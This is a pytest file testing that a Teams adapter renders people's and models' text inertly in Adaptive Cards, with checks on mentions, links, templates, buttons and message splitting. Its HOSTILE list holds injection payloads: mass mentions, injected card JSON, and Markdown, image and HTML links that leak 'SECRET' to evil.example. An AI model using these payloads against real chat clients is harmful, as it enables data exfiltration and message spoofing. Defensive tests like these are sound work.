"""What Teams is given to draw: people's and models' words are text, and nothing else."""

from __future__ import annotations

import json
from typing import Any

import pytest

from adapters.teams import adaptive, markdown, message
from adapters.teams.parts import PARTS_MOST, parts
from core.cards import (
    Button,
    Buttons,
    Card,
    Field,
    Fields,
    Note,
    Plain,
    Prose,
    Source,
    Sources,
    Style,
)
from core.text import clean

ALLOWED = {
    "AdaptiveCard", "Container", "RichTextBlock", "TextRun", "ActionSet", "Action.Execute",
    "Action.Submit", "Action.OpenUrl", "Input.Text",
}  # fmt: skip
HOSTILE = [
    "<at>Everyone</at>",
    "@everyone @channel",
    '{"type":"AdaptiveCard","body":[{"type":"Image","url":"https://evil.example/x"}]}',
    '{"type":"Action.Http","url":"https://evil.example"}',
    "{{DATE(2020-01-01T00:00:00Z)}} ${user.name} {{x}}",
    "[ok](https://evil.example/?q=SECRET) ![i](https://evil.example/SECRET)",
    "**bold** `code` <img src=https://evil.example/SECRET> https://evil.example/SECRET",
    "javascript:alert(1) msteams:/l/chat",
]


def everything(words: str) -> Card:
    """A card with somebody's words wherever words can be."""
    return Card(
        (
            Prose(words),
            Plain(words),
            Plain(words, quoted=True),
            Fields((Field("Wants", words),)),
            Sources((Source(1, words, words, words, words),)),
            Note(words),
            Buttons((Button("Claim", "claim", "id.0", Style.PRIMARY),)),
        ),
        title="Request H-1",
        speaks_as=words,
    )


def walk(value: Any) -> list[dict[str, Any]]:
    """Every object of a drawn card."""
    if isinstance(value, list):
        return [found for each in value for found in walk(each)]
    if isinstance(value, dict):
        return [value, *(found for each in value.values() for found in walk(each))]
    return []


@pytest.mark.parametrize("words", HOSTILE)
@pytest.mark.parametrize("generated", [False, True])
def test_a74_a79_a80_hostile_words_stay_words(words: str, *, generated: bool) -> None:
    """No mention entity, no element, action or template of theirs; no address of theirs."""
    card = everything(words)
    if generated:
        card = Card((Prose(words), *card.blocks[3:]), generated=True)
    sent = message.activity(card, "drawing")
    drawn = walk(sent.get("attachments", []))

    kinds = {each["type"] for each in drawn if "type" in each}
    assert kinds <= ALLOWED
    assert not [each for each in sent.get("entities", []) if each.get("type") == "mention"]
    assert not [each for each in drawn if each.get("type") == "Action.OpenUrl"]
    assert "<at" not in sent.get("text", "")
    text_runs = [each["text"] for each in drawn if each.get("type") == "TextRun"]
    assert not [each for each in text_runs if "{{" in each or "${" in each]
    assert "evil.example/SECRET" not in sent.get("text", "")
    assert "?q=SECRET" not in sent.get("text", "")


@pytest.mark.parametrize("words", HOSTILE)
def test_a79_what_somebody_wrote_is_shown_as_it_was(words: str) -> None:
    """Inert, and still readable."""
    content = adaptive.draw(Card((Plain(words),)), "drawing")

    shown = "".join(each["text"] for each in walk(content["body"]) if each["type"] == "TextRun")
    assert clean(shown) == words


def test_a74_typed_tags_in_a_text_are_entities() -> None:
    assert (
        markdown.text("<at>Everyone</at> & 1 < 2") == "&lt;at&gt;Everyone&lt;/at&gt; &amp; 1 &lt; 2"
    )


def test_a75_only_a_cited_link_is_a_link() -> None:
    """Letter for letter; any other becomes its words and its host."""
    good = "https://docs.example.org/leave"

    told = markdown.text(f"[leave]({good}) [x](https://evil.example/?q=S)", [good])

    assert told == f"[leave]({good}) x (evil.example)"


def test_markdown_keeps_its_meaning_and_words_their_look() -> None:
    told = markdown.text("# Head\n\n1. *one*\n2. **two**\n   - deep\n\n2\\*3 and snake_case [1]")

    assert told == ("**Head**\n\n1. _one_\n2. **two**\n    - deep\n\n2\\*3 and snake\\_case [1]")


def test_only_runs_carry_words_and_only_sources_carry_links() -> None:
    """No TextBlock, no fact: those would read Markdown."""
    source = Source(1, "Leave", "https://docs.example.org/leave", "Updated 1 May 2026")
    content = adaptive.draw(Card((Sources((source,)),)), "drawing")

    opened = [each["url"] for each in walk(content) if each.get("type") == "Action.OpenUrl"]
    assert opened == ["https://docs.example.org/leave"]
    assert content["version"] == "1.5"


def test_a_button_carries_an_opaque_id_and_falls_back_to_submit() -> None:
    """The nonce tells one drawing from another; both actions carry the same."""
    card = Card((Buttons((Button("Claim", "claim", "case.0"),)),))

    (first,) = adaptive.draw(card, "one")["body"][0]["actions"]
    (other,) = adaptive.draw(card, "two")["body"][0]["actions"]

    assert first["type"] == "Action.Execute"
    assert first["verb"] == "claim"
    assert first["fallback"]["type"] == "Action.Submit"
    assert first["data"] == first["fallback"]["data"]
    assert first["data"]["frontdesk"]["nonce"] != other["data"]["frontdesk"]["nonce"]


def test_a_card_is_cut_into_parts_that_fit_whatever_is_in_it() -> None:
    """Also when one line, one field or ten thousand line breaks are too much."""
    for words in ("x" * 60_000, " \n \n" * 5_000, "a\n" * 5_000, "漢" * 20_000, "**a** " * 2_000):
        card = Card((Prose(words), Plain(words), Fields((Field("a", words),)), Note(words)))

        found = parts(card)

        assert 1 < len(found) <= PARTS_MOST
        for part in found:
            sent = json.dumps(message.activity(part, "0" * 36), ensure_ascii=False)
            assert len(sent.encode()) < 28_000
